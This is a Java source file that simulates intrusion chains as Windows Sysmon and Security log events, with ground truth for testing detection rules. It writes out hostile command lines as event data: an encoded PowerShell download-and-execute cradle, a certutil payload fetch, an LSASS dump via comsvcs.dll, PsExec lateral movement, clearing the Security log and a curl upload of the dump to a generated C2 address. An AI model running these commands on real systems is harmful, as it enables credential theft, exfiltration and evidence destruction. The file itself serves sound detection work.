package dev.th.sim;

import dev.th.event.RawEvent;
import dev.th.event.SourceRef;
import java.io.IOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * Generated intrusions woven into a simulated fleet at recorded times, with their ground truth.
 * Each chain runs on one workstation and one server of the same client, on one day of the
 * simulation, within working hours: a phishing attachment opened from Outlook, Word starting an
 * encoded PowerShell, a download with certutil, an LSASS dump with comsvcs.dll's MiniDump,
 * lateral movement to the server with PsExec (the PSEXESVC service, its pipe and its child on
 * the server), a Run key for persistence, the Security log cleared, and the loot sent out with
 * curl. Every step is written as the Sysmon, Security and System events Windows would log for
 * it, with the fields Sysmon and the Security auditing write.
 *
 * <p>The ground truth ({@link #writeTruth}) has one row per generated event: chain, step,
 * ATT&amp;CK technique, client, machine, time, channel, event id, and the ids of the rules (TH's
 * pack, SigmaHQ's) that the step is expected to raise on that event. Deterministic for a seed.
 */
public final class AttackChains {
    /** The ground truth's file name, written beside the simulated logs (or the store). */
    public static final String TRUTH_FILE = "ground-truth.tsv";
    static final String SYSMON = "Microsoft-Windows-Sysmon/Operational";
    private static final DateTimeFormatter UTC_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter SYSTEM_TIME = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSSSSSS'Z'",
            Locale.ROOT).withZone(ZoneOffset.UTC);

    // TH's pack
    static final String TH_ENCODED_PS = "055f967c-20a8-4721-9f54-693f218f2a46";
    static final String TH_LOLBIN_DOWNLOAD = "245ea7c9-cde2-4625-8aac-3178927d1146";
    static final String TH_COMSVCS = "1d2b6577-75c1-40a1-85f7-d770e07a7ace";
    static final String TH_LSASS_ACCESS = "c178a97b-2d25-4f70-b3da-c1e2bd942a03";
    static final String TH_LSASS_DUMP_FILE = "8fbfac01-e2dc-4551-a3ef-931f6d36b85c";
    static final String TH_PSEXEC_TOOL = "38a6e125-22ad-4c8e-b849-52942585d951";
    static final String TH_PSEXESVC_DROPPED = "175efb84-b26f-4ba4-9a02-565a79ea958d";
    static final String TH_PSEXESVC_CHILD = "2d080590-e00e-4cdd-b27f-adc735f24b2e";
    static final String TH_PSEXEC_PIPE = "89df9692-607f-4d51-b5bd-1782f869649a";
    static final String TH_RUN_KEY = "e4429b53-1a08-42e0-a895-3954aefde6cb";
    static final String TH_LOG_CLEARED = "77dd22a2-225f-46b5-a2ac-2455f2115ffa";
    // SigmaHQ's (rules/windows), by the title they carry there
    static final String SIGMA_OFFICE_MACRO_FILE = "91174a41-dc8f-401b-be89-7bfc140612a0"; // Office Macro File Creation
    static final String SIGMA_OFFICE_MACRO_DOWNLOAD = "0e29e3a7-1ad8-40aa-b691-9f82ecd33d66"; // Office Macro File Download
    static final String SIGMA_OFFICE_CHILD = "438025f9-5856-4663-83f7-52f878a70a50"; // Suspicious Microsoft Office Child Process
    static final String SIGMA_ENCODED_PS = "ca2092a1-c273-4878-9b4b-0d60115bf5ea"; // Suspicious Encoded PowerShell Command Line
    static final String SIGMA_CERTUTIL_DIRECT_IP = "13e6fe51-d478-4c7e-b0f2-6da9b400a829"; // ... Direct IP Via Certutil.EXE
    static final String SIGMA_CERTUTIL_NETWORK = "0dba975d-a193-4ed1-a067-424df57570d1"; // Uncommon Network Connection ... Certutil.EXE
    static final String SIGMA_PUBLIC_FOLDER = "b447f7de-1e53-4cbf-bfb4-f1f6d0b04e4e"; // Suspicious Binaries and Scripts in Public Folder
    static final String SIGMA_COMSVCS = "646ea171-dded-4578-8a4d-65e9822892e3"; // Process Memory Dump Via Comsvcs.DLL
    static final String SIGMA_LSASS_ACCESS = "5ef9853e-4d0e-4a70-846f-a9ca37d876da"; // Potential Credential Dumping Activity Via LSASS
    static final String SIGMA_LSASS_DUMP_FILE = "a5a2d357-1ab8-4675-a967-ef9990a59391"; // LSASS Process Memory Dump Files
    static final String SIGMA_PSEXEC = "730fc21b-eaff-474b-ad23-90fd265d4988"; // Psexec Execution
    static final String SIGMA_PSEXESVC_FILE = "259e5a6a-b8d2-4c38-86e2-26c5e651361d"; // PsExec Service File Creation
    static final String SIGMA_PSEXESVC_INSTALLED = "42c575ea-e41e-41f1-b248-8093c3e82a28"; // PsExec Service Installation
    static final String SIGMA_PSEXESVC_STARTS = "fdfcbd78-48f1-4a4b-90ac-d82241e368c5"; // PsExec Service Execution
    static final String SIGMA_PSEXESVC_CHILD = "7c0dcd3d-acf8-4f71-9570-f448b0034f94"; // PsExec Service Child Process ... LOCAL SYSTEM
    static final String SIGMA_RUN_KEY = "02ee49e2-e294-4d0f-9278-f5b3212fc588"; // New RUN Key Pointing to Suspicious Folder
    static final String SIGMA_WEVTUTIL_CLEAR = "cc36992a-4671-4f21-a91d-6c2b72a2edf5"; // Suspicious Eventlog Clearing ... Activity
    static final String SIGMA_LOG_CLEARED = "d99b79d2-0a6f-4f46-ad8b-260b6e17f982"; // Security Eventlog Cleared
    static final String SIGMA_CURL_INSECURE = "cb9cc1d1-e84e-4bdc-b7ad-c31b1b7908ec"; // Insecure Transfer Via Curl.EXE
    static final String SIGMA_UNCOMMON_PORT = "6d8c3d20-a5e1-494f-8412-4571d716cf5c"; // Communication To Uncommon Destination Ports

    /** One row of the ground truth: a generated event and what it should raise. */
    public record Truth(int chain, String step, String technique, String client, String machine, Instant time,
            String channel, int eventId, List<String> rules, String what) {
    }

    /** A generated event, the machine (index in the fleet) and day it belongs to, and its truth. */
    record Planned(int machine, LocalDate day, RawEvent event, Truth truth) {
    }

    private final List<Planned> planned = new ArrayList<>();
    private final Map<String, List<RawEvent>> byMachineDay = new HashMap<>();

    private AttackChains() {
    }

    /** No chains. */
    static AttackChains none() {
        return new AttackChains();
    }

    /**
     * {@code chains} intrusions over the fleet's days {@code firstDay .. firstDay + days - 1}, on
     * the machines {@code names} (their index is the fleet's machine number) of {@code clients}.
     */
    static AttackChains plan(int chains, long seed, FleetGenerator fleet, LocalDate firstDay, int days) {
        AttackChains a = new AttackChains();
        for (int c = 0; c < chains; c++) {
            SplittableRandom r = new SplittableRandom(FleetReplay.mix64(seed * 1_000_003L + c * 7_919L + 0x5eed));
            int[] pair = fleet.attackPair(r);
            if (pair == null) {
                break;
            }
            LocalDate day = firstDay.plusDays(r.nextInt(days));
            long start = day.atStartOfDay(ZoneOffset.UTC).toEpochSecond() + 9 * 3600 + 30 * 60 + r.nextInt(5 * 3600);
            new Chain(a, c + 1, r, fleet, pair[0], pair[1], day, Instant.ofEpochSecond(start, r.nextInt(1_000_000) * 1000L)).run();
        }
        return a;
    }

    /** The generated events of one machine day, in time order (none: an empty list). */
    List<RawEvent> events(int machine, LocalDate day) {
        return byMachineDay.getOrDefault(machine + "|" + day, Collections.emptyList());
    }

    /** Every ground-truth row, in time order. */
    public List<Truth> truth() {
        List<Truth> t = new ArrayList<>(planned.size());
        for (Planned p : planned) {
            t.add(p.truth());
        }
        t.sort(java.util.Comparator.comparing(Truth::time));
        return t;
    }

    /** Writes the ground truth as TSV (a header line, then one line per generated event). */
    public void writeTruth(Path file) throws IOException {
        Files.createDirectories(file.toAbsolutePath().getParent());
        try (Writer w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            w.write("chain\tstep\ttechnique\tclient\tmachine\ttime\tchannel\tevent_id\texpected_rules\twhat\n");
            for (Truth t : truth()) {
                w.write(t.chain() + "\t" + t.step() + "\t" + t.technique() + "\t" + t.client() + "\t" + t.machine() + "\t"
                        + t.time() + "\t" + t.channel() + "\t" + t.eventId() + "\t" + String.join(",", t.rules()) + "\t"
                        + t.what() + "\n");
            }
        }
    }

    /** Reads a ground-truth file written by {@link #writeTruth}. */
    public static List<Truth> readTruth(Path file) throws IOException {
        List<Truth> rows = new ArrayList<>();
        List<String> lines = Files.readAllLines(file, StandardCharsets.UTF_8);
        for (String line : lines.subList(1, lines.size())) {
            String[] f = line.split("\t", -1);
            rows.add(new Truth(Integer.parseInt(f[0]), f[1], f[2], f[3], f[4], Instant.parse(f[5]), f[6],
                    Integer.parseInt(f[7]), f[8].isEmpty() ? List.of() : List.of(f[8].split(",")), f[9]));
        }
        return rows;
    }

    private void add(int machine, Instant time, RawEvent e, Truth t) {
        LocalDate day = time.atZone(ZoneOffset.UTC).toLocalDate();
        planned.add(new Planned(machine, day, e, t));
        byMachineDay.computeIfAbsent(machine + "|" + day, k -> new ArrayList<>()).add(e);
    }

    /** One intrusion: its machines, its processes and its clock. */
    private static final class Chain {
        private final AttackChains out;
        private final int no;
        private final SplittableRandom r;
        private final FleetGenerator fleet;
        private final int ws;
        private final int srv;
        private final String client;
        private final String domain;
        private final String user;
        private final String userSid;
        private final String c2;
        private Instant t;
        private String step;
        private String technique;

        Chain(AttackChains out, int no, SplittableRandom r, FleetGenerator fleet, int ws, int srv, LocalDate day, Instant start) {
            this.out = out;
            this.no = no;
            this.r = r;
            this.fleet = fleet;
            this.ws = ws;
            this.srv = srv;
            this.client = fleet.clientIdOf(ws);
            this.domain = client.toUpperCase(Locale.ROOT);
            this.user = fleet.userOf(ws);
            this.userSid = "S-1-5-21-" + (1_000_000_000L + (client.hashCode() & 0x3fffffff)) + "-" + (1_000_000 + no)
                    + "-" + (2_000_000 + ws) + "-" + (1100 + ws % 8000);
            this.c2 = (45 + r.nextInt(140)) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + (1 + r.nextInt(254));
            this.t = start;
        }

        void run() {
            String docm = "C:\\Users\\" + user + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                    + hex(8).toUpperCase(Locale.ROOT) + "\\Invoice_" + (10_000 + r.nextInt(90_000)) + ".docm";
            Proc explorer = new Proc(ws, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", null, user, "Medium");
            Proc outlook = new Proc(ws, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", explorer, user, "Medium");

            phase("initial access: a macro document opened from Outlook", "T1566.001");
            file(outlook, docm, SIGMA_OFFICE_MACRO_FILE, SIGMA_OFFICE_MACRO_DOWNLOAD);
            Proc word = start(new Proc(ws, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + docm + "\" /o \"\"",
                    outlook, user, "Medium"), "Word opens the attachment");

            phase("execution: Word starts an encoded PowerShell", "T1059.001");
            String script = "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');iex $w.DownloadString('http://"
                    + c2 + "/a')";
            String enc = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
            Proc ps = start(new Proc(ws, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -enc " + enc, word, user, "Medium"), "encoded PowerShell",
                    TH_ENCODED_PS, SIGMA_OFFICE_CHILD, SIGMA_ENCODED_PS);
            connect(ps, c2, 80);

            phase("command and control: a payload downloaded with certutil", "T1105");
            String payload = "C:\\Users\\Public\\Libraries\\svcupdate.exe";
            Proc certutil = start(new Proc(ws, "C:\\Windows\\System32\\certutil.exe",
                    "certutil.exe -urlcache -split -f http://" + c2 + "/svcupdate.exe " + payload, ps, user, "Medium"),
                    "certutil downloads the payload", TH_LOLBIN_DOWNLOAD, SIGMA_CERTUTIL_DIRECT_IP);
            connect(certutil, c2, 80, SIGMA_CERTUTIL_NETWORK);
            file(certutil, payload, SIGMA_PUBLIC_FOLDER);

            phase("credential access: LSASS dumped with comsvcs.dll MiniDump", "T1003.001");
            Proc lsass = new Proc(ws, "C:\\Windows\\system32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", null,
                    "NT AUTHORITY\\SYSTEM", "System");
            String dump = "C:\\Users\\Public\\Libraries\\lsass.dmp";
            Proc rundll = start(new Proc(ws, "C:\\Windows\\System32\\rundll32.exe",
                    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump " + lsass.pid + " " + dump + " full", ps,
                    user, "High"), "rundll32 comsvcs.dll MiniDump", TH_COMSVCS, SIGMA_COMSVCS);
            access(rundll, lsass, "0x1fffff", TH_LSASS_ACCESS, SIGMA_LSASS_ACCESS);
            file(rundll, dump, TH_LSASS_DUMP_FILE, SIGMA_LSASS_DUMP_FILE);

            phase("lateral movement: PsExec to a server", "T1569.002");
            String target = fleet.machineName(srv);
            String psexec = "C:\\Users\\Public\\Libraries\\PsExec64.exe";
            file(ps, psexec, SIGMA_PUBLIC_FOLDER);
            Proc px = start(new Proc(ws, psexec, psexec + " \\\\" + target + " -accepteula -s -d cmd.exe /c " + payload, ps,
                    user, "High"), "PsExec started", TH_PSEXEC_TOOL, SIGMA_PSEXEC);
            connect(px, fleet.addressOf(srv), 445);
            tick(900);
            logon(srv, fleet.addressOf(ws));
            Proc system = new Proc(srv, "System", "System", null, "NT AUTHORITY\\SYSTEM", "System");
            file(system, "C:\\Windows\\PSEXESVC.exe", TH_PSEXESVC_DROPPED, SIGMA_PSEXESVC_FILE);
            service(srv, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", SIGMA_PSEXESVC_INSTALLED);
            Proc services = new Proc(srv, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", null,
                    "NT AUTHORITY\\SYSTEM", "System");
            Proc svc = start(new Proc(srv, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", services,
                    "NT AUTHORITY\\SYSTEM", "System"), "the PsExec service starts", SIGMA_PSEXESVC_STARTS);
            pipe(svc, "\\PSEXESVC", TH_PSEXEC_PIPE);
            Proc cmd = start(new Proc(srv, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c " + payload, svc,
                    "NT AUTHORITY\\SYSTEM", "System"), "PsExec runs the payload on the server", TH_PSEXESVC_CHILD,
                    SIGMA_PSEXESVC_CHILD);

            phase("persistence: a Run key for the payload", "T1547.001");
            Proc implant = start(new Proc(srv, "C:\\Users\\Public\\Libraries\\svcupdate.exe", payload, cmd,
                    "NT AUTHORITY\\SYSTEM", "System"), "the payload runs");
            registry(implant, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SvcUpdate", payload, TH_RUN_KEY, SIGMA_RUN_KEY);

            phase("defense evasion: the Security log cleared", "T1070.001");
            Proc wevt = start(new Proc(srv, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security", implant,
                    "NT AUTHORITY\\SYSTEM", "System"), "wevtutil clears the Security log", SIGMA_WEVTUTIL_CLEAR);
            cleared(srv, TH_LOG_CLEARED, SIGMA_LOG_CLEARED);

            phase("exfiltration: the dump sent out with curl", "T1048.003");
            Proc curl = start(new Proc(ws, "C:\\Windows\\System32\\curl.exe",
                    "curl.exe -s -k -T " + dump + " http://" + c2 + ":8080/upload", ps, user, "High"),
                    "curl uploads the dump", TH_LOLBIN_DOWNLOAD, SIGMA_CURL_INSECURE);
            connect(curl, c2, 8080, SIGMA_UNCOMMON_PORT);
        }

        private void phase(String what, String technique) {
            this.step = what;
            this.technique = technique;
            tick(30 + r.nextInt(240));
        }

        private void tick(int maxSeconds) {
            t = t.plusMillis(200 + r.nextInt(maxSeconds * 1000));
        }

        private String hex(int n) {
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < n; i++) {
                sb.append("0123456789abcdef".charAt(r.nextInt(16)));
            }
            return sb.toString();
        }

        private String guid() {
            return "{" + hex(8) + "-" + hex(4) + "-" + hex(4) + "-" + hex(4) + "-" + hex(12) + "}";
        }

        /** A process of the chain: its machine, image, command line, parent and identity. */
        private final class Proc {
            final int machine;
            final String image;
            final String commandLine;
            final Proc parent;
            final String user;
            final String integrity;
            final String guid = guid();
            final int pid = 4 * (200 + r.nextInt(4000));

            Proc(int machine, String image, String commandLine, Proc parent, String user, String integrity) {
                this.machine = machine;
                this.image = image;
                this.commandLine = commandLine;
                this.parent = parent;
                this.user = user.contains("\\") ? user : domain + "\\" + user;
                this.integrity = integrity;
            }
        }

        private Map<String, String> system(int machine, String provider, String guid, int eventId, int version, int level,
                int task, String keywords, String channel) {
            Map<String, String> f = new LinkedHashMap<>();
            f.put("Provider_Name", provider);
            f.put("Provider_Guid", guid);
            f.put("EventID", Integer.toString(eventId));
            f.put("Version", Integer.toString(version));
            f.put("Level", Integer.toString(level));
            f.put("Task", Integer.toString(task));
            f.put("Opcode", "0");
            f.put("Keywords", keywords);
            f.put("TimeCreated", SYSTEM_TIME.format(t));
            f.put("Execution_ProcessID", Integer.toString(provider.endsWith("Sysmon") ? 3120 + 4 * machine % 400 : 700 + 4 * (machine % 20)));
            f.put("Execution_ThreadID", Integer.toString(4 * (300 + r.nextInt(2000))));
            f.put("Channel", channel);
            f.put("Computer", fleet.machineName(machine));
            return f;
        }

        private Map<String, String> sysmon(int machine, int eventId, int version) {
            Map<String, String> f = system(machine, "Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
                    eventId, version, 4, eventId, "0x8000000000000000", SYSMON);
            f.put("Security_UserID", "S-1-5-18");
            f.put("RuleName", "-");
            return f;
        }

        /** A Sysmon event of process {@code p}: its time, GUID, pid and image first, as Sysmon writes them. */
        private Map<String, String> sysmonOf(Proc p, int eventId, int version) {
            Map<String, String> f = sysmon(p.machine, eventId, version);
            f.put("UtcTime", UTC_TIME.format(t));
            f.put("ProcessGuid", p.guid);
            f.put("ProcessId", Integer.toString(p.pid));
            f.put("Image", p.image);
            return f;
        }

        private void emit(int machine, Map<String, String> f, String what, String... rules) {
            String provider = f.get("Provider_Name");
            String channel = f.get("Channel");
            int eventId = Integer.parseInt(f.get("EventID"));
            RawEvent e = new RawEvent(new SourceRef("attack-chain-" + no, "", 0), 0, t, provider, channel, eventId,
                    fleet.machineName(machine), f);
            out.add(machine, t, e, new Truth(no, step, technique, client, fleet.machineName(machine), t, channel, eventId,
                    List.of(rules), what));
            t = t.plusMillis(5 + r.nextInt(400));
        }

        private Proc start(Proc p, String what, String... rules) {
            Map<String, String> f = sysmonOf(p, 1, 5);
            String exe = p.image.substring(p.image.lastIndexOf('\\') + 1);
            f.put("FileVersion", "-");
            f.put("Description", "-");
            f.put("Product", "-");
            f.put("Company", "-");
            f.put("OriginalFileName", original(exe));
            f.put("CommandLine", p.commandLine);
            f.put("CurrentDirectory", p.integrity.equals("System") ? "C:\\Windows\\system32\\" : "C:\\Users\\" + user + "\\Documents\\");
            f.put("User", p.user);
            f.put("LogonGuid", guid());
            f.put("LogonId", "0x" + Long.toHexString(0x100000L + ws * 4099L + no));
            f.put("TerminalSessionId", p.integrity.equals("System") ? "0" : "1");
            f.put("IntegrityLevel", p.integrity);
            f.put("Hashes", "SHA256=" + hex(64).toUpperCase(Locale.ROOT));
            Proc parent = p.parent;
            f.put("ParentProcessGuid", parent.guid);
            f.put("ParentProcessId", Integer.toString(parent.pid));
            f.put("ParentImage", parent.image);
            f.put("ParentCommandLine", parent.commandLine);
            f.put("ParentUser", parent.user);
            emit(p.machine, f, what, rules);
            return p;
        }

        private String original(String exe) {
            return switch (exe.toLowerCase(Locale.ROOT)) {
                case "powershell.exe" -> "PowerShell.EXE";
                case "psexec64.exe" -> "psexec.c";
                case "psexesvc.exe" -> "psexesvc.exe";
                case "winword.exe" -> "WinWord.exe";
                case "rundll32.exe" -> "RUNDLL32.EXE";
                case "certutil.exe" -> "CertUtil.exe";
                case "cmd.exe" -> "Cmd.Exe";
                case "wevtutil.exe" -> "wevtutil.exe";
                case "curl.exe" -> "curl.exe";
                default -> "-";
            };
        }

        private void connect(Proc p, String ip, int port, String... rules) {
            Map<String, String> f = sysmonOf(p, 3, 5);
            f.put("User", p.user);
            f.put("Protocol", "tcp");
            f.put("Initiated", "true");
            f.put("SourceIsIpv6", "false");
            f.put("SourceIp", fleet.addressOf(p.machine));
            f.put("SourceHostname", fleet.machineName(p.machine));
            f.put("SourcePort", Integer.toString(49_152 + r.nextInt(16_000)));
            f.put("SourcePortName", "-");
            f.put("DestinationIsIpv6", "false");
            f.put("DestinationIp", ip);
            f.put("DestinationHostname", "-");
            f.put("DestinationPort", Integer.toString(port));
            f.put("DestinationPortName", port == 445 ? "microsoft-ds" : port == 80 ? "http" : "-");
            emit(p.machine, f, p.image.substring(p.image.lastIndexOf('\\') + 1) + " connects to " + ip + ":" + port, rules);
        }

        private void file(Proc p, String path, String... rules) {
            Map<String, String> f = sysmonOf(p, 11, 2);
            f.put("TargetFilename", path);
            f.put("CreationUtcTime", UTC_TIME.format(t));
            f.put("User", p.user);
            emit(p.machine, f, "file created: " + path, rules);
        }

        private void access(Proc source, Proc target, String rights, String... rules) {
            Map<String, String> f = sysmon(source.machine, 10, 3);
            f.put("UtcTime", UTC_TIME.format(t));
            f.put("SourceProcessGUID", source.guid);
            f.put("SourceProcessId", Integer.toString(source.pid));
            f.put("SourceThreadId", Integer.toString(4 * (300 + r.nextInt(2000))));
            f.put("SourceImage", source.image);
            f.put("TargetProcessGUID", target.guid);
            f.put("TargetProcessId", Integer.toString(target.pid));
            f.put("TargetImage", target.image);
            f.put("GrantedAccess", rights);
            f.put("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"
                    + "|C:\\Windows\\System32\\comsvcs.dll+3ab5f|C:\\Windows\\System32\\rundll32.exe+3bd4");
            f.put("SourceUser", source.user);
            f.put("TargetUser", target.user);
            emit(source.machine, f, "lsass.exe opened with " + rights, rules);
        }

        private void registry(Proc p, String key, String value, String... rules) {
            Map<String, String> f = sysmon(p.machine, 13, 2);
            f.put("EventType", "SetValue");
            f.put("UtcTime", UTC_TIME.format(t));
            f.put("ProcessGuid", p.guid);
            f.put("ProcessId", Integer.toString(p.pid));
            f.put("Image", p.image);
            f.put("TargetObject", key);
            f.put("Details", value);
            f.put("User", p.user);
            emit(p.machine, f, "registry value set: " + key, rules);
        }

        private void pipe(Proc p, String name, String... rules) {
            Map<String, String> f = sysmon(p.machine, 17, 1);
            f.put("EventType", "CreatePipe");
            f.put("UtcTime", UTC_TIME.format(t));
            f.put("ProcessGuid", p.guid);
            f.put("ProcessId", Integer.toString(p.pid));
            f.put("PipeName", name);
            f.put("Image", p.image);
            f.put("User", p.user);
            emit(p.machine, f, "pipe created: " + name, rules);
        }

        private Map<String, String> security(int machine, int eventId, int version, int task) {
            Map<String, String> f = system(machine, "Microsoft-Windows-Security-Auditing",
                    "{54849625-5478-4994-a5ba-3e3b0328c30d}", eventId, version, 0, task, "0x8020000000000000", "Security");
            f.put("Execution_ProcessID", Integer.toString(600 + 4 * (machine % 40)));
            return f;
        }

        private void logon(int machine, String from) {
            Map<String, String> f = security(machine, 4624, 2, 12544);
            f.put("SubjectUserSid", "S-1-0-0");
            f.put("SubjectUserName", "-");
            f.put("SubjectDomainName", "-");
            f.put("SubjectLogonId", "0x0");
            f.put("TargetUserSid", userSid);
            f.put("TargetUserName", user);
            f.put("TargetDomainName", domain);
            f.put("TargetLogonId", "0x" + Long.toHexString(0x3a0000L + r.nextInt(0xffff)));
            f.put("LogonType", "3");
            f.put("LogonProcessName", "NtLmSsp ");
            f.put("AuthenticationPackageName", "NTLM");
            f.put("WorkstationName", fleet.machineName(ws).substring(0, fleet.machineName(ws).indexOf('.')));
            f.put("LogonGuid", "{00000000-0000-0000-0000-000000000000}");
            f.put("TransmittedServices", "-");
            f.put("LmPackageName", "NTLM V2");
            f.put("KeyLength", "128");
            f.put("ProcessId", "0x0");
            f.put("ProcessName", "-");
            f.put("IpAddress", from);
            f.put("IpPort", Integer.toString(49_152 + r.nextInt(16_000)));
            f.put("ImpersonationLevel", "%%1833");
            f.put("RestrictedAdminMode", "-");
            f.put("TargetOutboundUserName", "-");
            f.put("TargetOutboundDomainName", "-");
            f.put("VirtualAccount", "%%1843");
            f.put("TargetLinkedLogonId", "0x0");
            f.put("ElevatedToken", "%%1842");
            emit(machine, f, "network logon of " + user + " from " + from);
        }

        private void service(int machine, String name, String path, String... rules) {
            Map<String, String> f = system(machine, "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
                    7045, 0, 4, 0, "0x8080000000000000", "System");
            f.put("Provider_EventSourceName", "Service Control Manager");
            f.put("EventID_Qualifiers", "16384");
            f.put("Security_UserID", "S-1-5-18");
            f.put("ServiceName", name);
            f.put("ImagePath", path);
            f.put("ServiceType", "user mode service");
            f.put("StartType", "demand start");
            f.put("AccountName", "LocalSystem");
            emit(machine, f, "service installed: " + name, rules);
        }

        private void cleared(int machine, String... rules) {
            Map<String, String> f = system(machine, "Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}",
                    1102, 0, 4, 104, "0x4020000000000000", "Security");
            f.put("SubjectUserSid", "S-1-5-18");
            f.put("SubjectUserName", fleet.machineName(machine).substring(0, fleet.machineName(machine).indexOf('.')) + "$");
            f.put("SubjectDomainName", domain);
            f.put("SubjectLogonId", "0x3e7");
            emit(machine, f, "the Security log was cleared", rules);
        }
    }
}
